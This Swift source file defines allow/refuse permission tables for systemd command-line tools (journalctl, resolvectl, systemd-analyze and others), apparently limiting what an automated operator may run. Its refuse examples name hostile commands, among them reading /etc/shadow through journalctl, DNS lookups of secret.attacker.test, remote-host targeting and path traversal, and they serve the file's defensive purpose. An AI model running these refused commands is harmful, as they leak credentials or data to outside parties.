// SPDX-License-Identifier: Apache-2.0

extension ShippedTables {
    /// journalctl(1) and coredumpctl(1), always with something that bounds them; never another root, file or host.
    ///
    /// Only output that leaves out the fields of a core dump, among which is its environment.
    static let journal = """
        program journalctl

        journalctl ...
          --no-pager, -q --quiet, -x --catalog, -r --reverse, -a --all, -l --full, --no-full, --utc, --no-hostname
          --system, --no-tail, -m --merge, --case-sensitive[={yes|no|true|false}], -g --grep TEXT
          -o --output {short|short-iso|short-iso-precise|short-precise|short-full|short-monotonic|short-unix|cat}
          -u --unit LOGUNIT, --user-unit LOGUNIT, -t --identifier LOGNAME, -n --lines COUNT, -e --pager-end
          -b --boot[=BOOT], -k --dmesg, -S --since TIME, -U --until TIME, -0, -1, -2, -3

        # Without a unit it shows the lines of all of them, also of those whose log may not be asked for by name: what
        # went wrong first on a host is seen only so, it is what people look at, and every output is masked. What is
        # asked for on purpose is a unit's log, and there the names of secret stores are refused.
        journalctl [BOOT] : observe
          -p --priority PRIORITY
          with -u | --user-unit | -t | -n | -e | -b | -k | -S
          allow journalctl -u docker -n 100 --no-pager
          allow journalctl -u docker --since -15min --no-pager
          allow journalctl -xeu nginx --no-pager
          allow journalctl -b -1 -p err
          allow journalctl -k --since '2 hours ago' -g 'oom|killed'
          refuse journalctl
          refuse journalctl -f
          refuse journalctl -fu docker
          refuse journalctl -u vault
          refuse journalctl -u docker -n 50 -o export
          refuse journalctl -u docker -n 50 -o json
          refuse journalctl -n 5 --file=/etc/shadow
          refuse journalctl -n 5 -D /tmp/x
          refuse journalctl -n 5 -M web
          refuse journalctl -n 5 --cursor-file=/etc/x

        journalctl [BOOT] JOURNALMATCH... : observe
          -p --priority PRIORITY
          allow journalctl _COMM=sshd --since today
          refuse journalctl _SYSTEMD_UNIT=vault.service
          refuse journalctl COREDUMP_ENVIRON=x

        # Errors are few.
        journalctl : observe
          -p --priority {0|1|2|3|emerg|alert|crit|err}
          with -p
          allow journalctl -p err --no-pager
          refuse journalctl -p debug

        journalctl : observe
          --list-boots, --disk-usage, --header, --verify, -N --fields, --version
          -F --field {_SYSTEMD_UNIT|SYSLOG_IDENTIFIER|_COMM|PRIORITY|_BOOT_ID|_TRANSPORT|_HOSTNAME}
          with --list-boots | --disk-usage | --header | --verify | -N | -F | --version
          allow journalctl --list-boots
          allow journalctl --disk-usage
          refuse journalctl -F COREDUMP_ENVIRON
          refuse journalctl --setup-keys

        # Together with --rotate also what happened just now would go.
        journalctl : bounded, undo no, does prune, destroys
          --vacuum-time KEPTTIME, --vacuum-size KEPTSIZE
          with --vacuum-time | --vacuum-size
          allow journalctl --vacuum-time=3d
          allow journalctl --vacuum-size=500M
          refuse journalctl --vacuum-size=1
          refuse journalctl --vacuum-time=1s
          refuse journalctl --vacuum-files=1
          refuse journalctl --rotate --vacuum-time=1s
          refuse journalctl --rotate --vacuum-time=3d

        journalctl : bounded, undo no, does rotate
          --rotate, --sync, --flush
          with --rotate | --sync | --flush
          allow journalctl --rotate
          refuse journalctl --relinquish-var

        program coredumpctl

        coredumpctl | coredumpctl (list|info) [LOGNAME] : observe
          --no-pager, --no-legend, -n COUNT, -1, -r --reverse, -S --since TIME, -U --until TIME, -q --quiet
          allow coredumpctl list --no-pager
          allow coredumpctl info 1234
          refuse coredumpctl gdb
          refuse coredumpctl dump -o /tmp/core
          refuse coredumpctl info --debugger=/tmp/x
        """

    /// The smaller tools.
    static let systemdTools = """
        program loginctl

        loginctl ...
          --no-pager, --no-legend, -a --all, -l --full

        loginctl [(list-sessions|list-users|list-seats)] : observe
          allow loginctl list-sessions
          refuse loginctl terminate-user root

        loginctl (session-status|user-status|seat-status|show-session|show-user) [NAME...] : observe
          --value, -p --property {Id|Name|State|Type|Class|Active|Remote|RemoteHost|TTY|Timestamp|Sessions|Linger}
          allow loginctl user-status backup
          refuse loginctl lock-session 1
          refuse loginctl user-status -H root@203.0.113.9

        program timedatectl

        timedatectl ...
          --no-pager

        timedatectl [(status|timesync-status|show|show-timesync|list-timezones)] : observe
          -a --all, --value, -p --property NAME
          allow timedatectl status
          allow timedatectl show -p NTPSynchronized --value
          refuse timedatectl timesync-status --monitor
          refuse timedatectl set-time 2030-01-01
          refuse timedatectl set-timezone UTC

        timedatectl set-ntp (true|yes|on|1) : highRisk, undo yes, does enable
          allow timedatectl set-ntp true
          refuse timedatectl set-ntp false

        program hostnamectl

        hostnamectl [(status|hostname|chassis|deployment|icon-name|location)] : observe
          --static, --transient, --pretty, --no-pager, --json {short|pretty|off}
          allow hostnamectl
          allow hostnamectl hostname --static
          refuse hostnamectl hostname evil
          refuse hostnamectl set-hostname evil

        program localectl

        localectl [(status|list-locales|list-keymaps)] : observe
          --no-pager
          allow localectl status
          refuse localectl set-locale x

        program resolvectl

        resolvectl ...
          --no-pager, -4, -6, -i --interface INTERFACE, --legend {yes|no|true|false}

        # Without a server behind the interface these only show.
        resolvectl | resolvectl (status|dns|domain|default-route|llmnr|mdns|dnssec|dnsovertls|nta) [INTERFACE] : observe
          allow resolvectl status
          allow resolvectl dns eth0
          refuse resolvectl dns eth0 203.0.113.9
          refuse resolvectl domain eth0 '~.'
          refuse resolvectl monitor

        resolvectl (statistics|show-server-state) : observe
          allow resolvectl statistics
          refuse resolvectl revert eth0

        resolvectl query DNSNAME : observe
          -t --type {A|AAAA|CNAME|MX|NS|PTR|SOA|SRV}, --cache {yes|no|true|false}
          allow resolvectl query example.org
          allow resolvectl query -t AAAA example.org
          refuse resolvectl query attacker.test
          refuse resolvectl query -t TXT secret.attacker.test

        resolvectl (flush-caches|reset-statistics|reset-server-features) : bounded, undo no, does flush
          allow resolvectl flush-caches
          refuse resolvectl flush-caches eth0

        program networkctl

        networkctl | networkctl (list|status|lldp) [INTERFACE...] : observe
          -a --all, --no-pager, --no-legend, -s --stats, -l --full
          allow networkctl status eth0
          refuse networkctl down eth0
          refuse networkctl edit eth0

        networkctl reload | networkctl (renew|reconfigure) INTERFACE : highRisk, undo no, does reload
          allow networkctl renew eth0
          refuse networkctl renew eth0 eth1

        program systemd-resolve

        systemd-resolve : observe
          --status, --statistics, --no-pager
          with --status | --statistics
          allow systemd-resolve --status
          refuse systemd-resolve attacker.test

        systemd-resolve : bounded, undo no, does flush
          --flush-caches
          with --flush-caches
          allow systemd-resolve --flush-caches
          refuse systemd-resolve --set-dns=203.0.113.9 --interface=eth0

        program systemd-analyze

        systemd-analyze ...
          --no-pager, --system

        systemd-analyze [(time|blame|unit-paths|exit-status)] : observe
          allow systemd-analyze blame
          refuse systemd-analyze dump
          refuse systemd-analyze -H root@203.0.113.9 blame

        systemd-analyze (critical-chain|security) [UNITPATTERN...] : observe
          allow systemd-analyze critical-chain docker.service
          refuse systemd-analyze security --root=/tmp/x
          refuse systemd-analyze verify /tmp/x.service

        systemd-analyze (calendar|timespan|timestamp) TEXT : observe
          --iterations FEW
          allow systemd-analyze calendar 'Mon *-*-* 03:00:00' --iterations=3
          refuse systemd-analyze log-level debug

        systemd-analyze cat-config {systemd/journald.conf|systemd/resolved.conf|systemd/timesyncd.conf} : observe
          allow systemd-analyze cat-config systemd/journald.conf
          refuse systemd-analyze cat-config systemd/../../root/x

        program systemd-tmpfiles

        systemd-tmpfiles : bounded, undo no, does prune, destroys
          --clean
          with --clean
          allow systemd-tmpfiles --clean
          refuse systemd-tmpfiles --clean /tmp/x.conf
          refuse systemd-tmpfiles --remove
          refuse systemd-tmpfiles --purge

        program systemd-cgtop

        systemd-cgtop : observe
          -b --batch, -n --iterations FEW, -1, -d --delay FEW, -p, -t, -c, -m, -i, -P, -k, -r --raw, --depth FEW
          --order {path|tasks|cpu|memory|io}
          with -b
          with -n | -1
          allow systemd-cgtop -b -n 1
          refuse systemd-cgtop
          refuse systemd-cgtop -b

        program systemd-cgls

        systemd-cgls : observe
          --no-pager, -l --full, -k, -a --all, -u --unit UNITPATTERN
          allow systemd-cgls --no-pager -u docker.service
          refuse systemd-cgls -M web

        program systemd-detect-virt

        systemd-detect-virt : observe
          -c --container, -v --vm, -r --chroot, -q --quiet
          allow systemd-detect-virt -v
          refuse systemd-detect-virt sh

        program systemd-inhibit

        systemd-inhibit : observe
          --list, --no-pager, --no-legend
          with --list
          allow systemd-inhibit --list
          refuse systemd-inhibit sh
          refuse systemd-inhibit --list sh

        program oomctl

        oomctl [dump] : observe
          --no-pager
          allow oomctl
          refuse oomctl --root=/tmp/x

        program machinectl

        machinectl [(list|list-images)] : observe
          --no-pager, --no-legend, -a --all
          allow machinectl list
          refuse machinectl shell web

        program busctl

        busctl [list] : observe
          --no-pager, --no-legend, --acquired, --activatable, --system
          allow busctl list
          refuse busctl set-property a b c d s x
          refuse busctl monitor
        """
}
